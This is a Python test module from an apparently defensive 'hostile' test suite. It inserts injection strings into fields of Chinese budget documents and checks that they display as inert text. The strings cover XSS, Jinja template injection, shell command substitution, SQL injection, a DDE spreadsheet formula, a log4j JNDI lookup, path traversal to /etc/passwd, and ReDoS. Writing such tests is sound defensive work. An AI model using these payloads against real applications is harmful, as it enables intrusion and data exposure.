"""Texts that would be something else in another language, and are only texts here."""

from tests.hostile.cases import ABOUT, OFFICE, PROJECT, WORDS, Case, added, replaced

_TEXTS = {
    "yes": "yes", "no": "NO", "null": "null", "octal": "0123", "sexagesimal": "12:30:45",
    "a number": "1_000", "a power": "1e400", "nan": ".nan", "a day": "2025-01-01", "hex": "0x1F",
    "a script": "'<script>alert(1)</script>'", "an image": "'<img src=x onerror=alert(1)>'",
    "the end of a script": "'</script><script>alert(1)</script>'", "an entity": "'&lt;b&gt;&#60;'",
    "a quote": "'\" onmouseover=\"alert(1)'", "an apostrophe": "\"' onmouseover='alert(1)\"",
    "jinja": "'{{ 7*7 }}{% raw %}{# x #}'", "jinja out": "'{{ cycler.__init__.__globals__ }}'",
    "markdown": "'**粗** [链](javascript:alert(1)) ![图](x)'", "snippets": "'--8<-- \"/etc/passwd\"'",
    "macros": "'!!! note \"x\" {: onclick=alert(1) }'", "mermaid": "'```mermaid```'",
    "format": "'%s%n {0} ${x} #{x}'", "shell": "'$(id) `id` ; id | id'", "sql": "\"' or 1=1 --\"",
    "a formula": "'=HYPERLINK(\"http://x.example\",\"x\")'", "dde": "\"@SUM(1+1)*cmd|' /C calc'!A0\"",
    "a command of GitHub": "'::error::x'", "an old one": "'##[error]x'", "a mention": "'@everyone #1'",
    "typst": "'#import \"x.typ\": * $x$ *b* @a <l>'", "comment": "'<!-- --> ]]> <![CDATA['",
    "css": "'</style><style>*{display:none}</style>'", "template": "'${alert(1)} `x`'",
    "log4j": "'${jndi:ldap://x.example/a}'", "path": "'../../../etc/passwd'", "regex": "'(a+)+$'",
}  # fmt: skip


def _plain(typed: str) -> str:
    return typed[1:-1] if typed[0] in "\"'" else typed


CASES = (
    *(
        Case(
            f"fine: {name}",
            replaced(PROJECT, "用途: 购置示例设备，保障示例工作", f"用途: {typed}"),
            shown=_plain(typed).replace("''", "'"),
        )
        for name, typed in _TEXTS.items()
    ),
    *(
        Case(f"fine: a name: {name}", replaced(OFFICE, "部门名称: 玉田县示例局", f"部门名称: {typed}"))
        for name, typed in _TEXTS.items()
        if name in ("a script", "jinja", "a formula", "a command of GitHub", "typst")
    ),
    Case("fine: a title in markup", added(ABOUT, "标题: '<title>x</title><b>'\n"), shown="<title>x</title><b>"),
    Case("fine: a cover in markup", added(ABOUT, "封面: ['<svg onload=alert(1)>']\n"), shown="<svg onload=alert(1)>"),
    Case("fine: 20,000 brackets", replaced(WORDS, "负责全县示例工作。", f"'{'[' * 15_000}'")),
    Case("fine: 15,000 stars", replaced(WORDS, "负责全县示例工作。", f"'{'*_`' * 5_000}'")),
    Case("fine: a long word", replaced(WORDS, "负责全县示例工作。", "w" * 15_000)),
)  # fmt: skip
